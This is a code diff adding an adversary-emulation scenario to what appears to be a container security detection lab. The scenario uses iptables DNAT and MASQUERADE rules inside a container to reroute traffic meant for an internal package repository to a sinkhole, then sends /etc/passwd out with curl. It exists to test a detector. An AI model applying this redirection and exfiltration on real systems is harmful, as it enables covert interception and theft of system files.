@@ -1,0 +1,43 @@
+"""A NAT rule inside a container's namespace reroutes its traffic for an internal service to the outside."""
+
+from __future__ import annotations
+
+from lab import Lab, WorkloadSpec
+from scenarios.api import Expectation, Kind, Scenario
+
+
+class NatRedirect(Scenario):
+    id = "docker.network.nat-redirect"
+    title = "DNAT rule inside a container sends its traffic for an internal service to an outside endpoint"
+    kind = Kind.ADVERSARY
+    techniques = ("T1090", "T1041")
+    backends = ("docker",)
+    expect = Expectation(fires=("stowaway.net.nat-redirect-external",), within_s=15)
+    twin = "docker.network.sidecar-redirect"
+    tags = ("network", "redirection")
+    description = (
+        "Deploys an internal package repository on the lab LAN (python http.server) and an application "
+        "container on the LAN and the lab internet with NET_ADMIN. Inside the application's network "
+        "namespace it adds an iptables DNAT rule (nat/OUTPUT) that rewrites connections to the repository's "
+        "port 80 to the sinkhole's port 80, plus a MASQUERADE rule so replies come back. The application "
+        "then POSTs its /etc/passwd to what it believes is the repository; the scenario checks that the "
+        "sinkhole, not the repository, received the POST from the application's address."
+    )
+
+    def detonate(self, lab: Lab) -> None:
+        sink = lab.sinkhole.address
+        repo = lab.deploy(WorkloadSpec(role="repo", networks=("lan",), labels={"app": "pkg-mirror"},
+                                       command=("python3", "-m", "http.server", "80", "--directory", "/usr/share")))
+        app = lab.deploy(WorkloadSpec(role="app", networks=("lan", "inet"), cap_add=("NET_ADMIN",),
+                                      labels={"app": "invoice-api"}))
+        repo_ip = repo.addresses["lan"]
+        lab.exec(app, "sh", "-c", f"for i in 1 2 3 4 5 6 7 8 9 10; do curl -sf -m 2 -o /dev/null "
+                                  f"http://{repo_ip}/ && exit 0; sleep 0.5; done; exit 1")
+        lab.action("add a DNAT rule in the app's namespace: repository traffic goes to the outside endpoint")
+        lab.exec(app, "iptables", "-t", "nat", "-A", "OUTPUT", "-p", "tcp", "-d", repo_ip, "--dport", "80",
+                 "-j", "DNAT", "--to-destination", f"{sink}:80")
+        lab.exec(app, "iptables", "-t", "nat", "-A", "POSTROUTING", "-d", sink, "-j", "MASQUERADE")
+        lab.exec(app, "sh", "-c", f"curl -s -m 5 -o /dev/null --data-binary @/etc/passwd http://{repo_ip}/upload")
+        source = app.addresses["inet"]
+        lab.wait_for(lambda: any("POST /upload" in r.get("head", "") for r in lab.sinkhole_records(peer=source)),
+                     timeout=10, what="the redirected POST to reach the sinkhole")
